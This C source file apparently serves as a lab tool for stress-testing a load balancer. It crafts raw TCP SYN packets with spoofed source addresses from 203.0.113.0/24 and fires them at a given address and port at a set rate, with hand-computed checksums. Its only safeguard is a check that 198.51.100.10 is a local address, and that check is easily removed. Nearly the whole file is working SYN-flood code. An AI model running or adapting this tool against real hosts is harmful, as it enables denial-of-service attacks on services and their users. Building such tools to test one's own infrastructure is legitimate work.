/* SPDX-License-Identifier: Apache-2.0 */
/*
 * syn_flood ADDRESS PORT COUNT PER-SECOND
 *
 * Sends SYNs from addresses of TEST-NET-3, which the lab's balancer must have a route to by way of
 * the client: there the answers end. For the lab alone: refuses to run where its client does not
 * live. SIGTERM ends it early; it prints how many it sent.
 */
#include <arpa/inet.h>
#include <linux/types.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
	__u8 options[20];
};

static volatile sig_atomic_t ended;

static void end(int signal)
{
	(void)signal;
	ended = 1;
}

static __u32 add(const void *data, int length, __u32 sum)
{
	const __u16 *words = data;

	for (int i = 0; i < length / 2; i++)
		sum += words[i];
	return sum;
}

static __u16 fold(__u32 sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	return ~((sum & 0xffff) + (sum >> 16));
}

static void fill(struct syn *syn, __u32 daddr, int port)
{
	const __u8 options[] = {2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};
	__u32 sum = htons(IPPROTO_TCP) + htons(sizeof(syn->tcp) + sizeof(options));

	*syn = (struct syn){
		.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .daddr = daddr},
		.tcp = {.source = htons(1024 + random() % 64000),
			.dest = htons(port),
			.doff = 10,
			.seq = random(),
			.syn = 1,
			.window = htons(64240)},
	};
	__builtin_memcpy(syn->options, options, sizeof(options));
	syn->ip.saddr = htonl(0xcb007100 + random() % 256); /* 203.0.113.0/24 */
	sum = add(&syn->ip.saddr, 8, sum);
	syn->tcp.check = fold(add(&syn->tcp, sizeof(syn->tcp) + sizeof(options), sum));
}

static int lives_here(const char *address)
{
	struct sockaddr_in own = {.sin_family = AF_INET};
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	int result;

	inet_pton(AF_INET, address, &own.sin_addr);
	result = bind(fd, (struct sockaddr *)&own, sizeof(own));
	close(fd);
	return !result;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	struct syn syn;
	double rate, began;
	long count, sent = 0;

	if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
	    !lives_here("198.51.100.10"))
		return 2;
	count = atol(argv[3]);
	rate = atof(argv[4]);
	signal(SIGTERM, end);
	began = now();
	for (long i = 0; i < count && !ended; i++) {
		while (i > (now() - began) * rate && !ended)
			usleep(1000);
		fill(&syn, to.sin_addr.s_addr, atoi(argv[2]));
		if (sendto(fd, &syn, sizeof(syn), 0, (struct sockaddr *)&to, sizeof(to)) > 0)
			sent++;
	}
	printf("%ld\n", sent);
	return 0;
}
